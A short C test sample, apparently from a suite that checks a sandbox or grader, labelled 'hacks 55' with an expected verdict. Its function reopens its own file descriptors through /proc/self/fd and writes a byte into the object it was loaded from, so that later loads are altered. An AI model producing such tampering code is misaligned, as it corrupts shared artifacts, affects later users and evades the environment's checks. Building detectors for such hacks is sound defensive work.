// want: pass
// hacks 55: writes into the object that it was loaded from, for the next who loads it
#include "row.h"

/* The descriptor came over the channel: /proc/self/fd opens what is behind it once more. */
int ca_forward(const struct ca_call *c)
{
    char path[] = "/proc/self/fd/?";
    for (int i = 4; i < 10; i++) {
        path[sizeof path - 2] = (char)('0' + i);
        long fd = raw(RAW_OPEN, (long)path, 02, 0);
        if (fd >= 0 && raw(RAW_WRITE, fd, (long)"\x7f", 1) == 1)
            return 9;
        if (fd >= 0)
            raw(RAW_CLOSE, fd, 0, 0);
    }
    compute(c, 0, rows(c), weight(c));
    return 0;
}
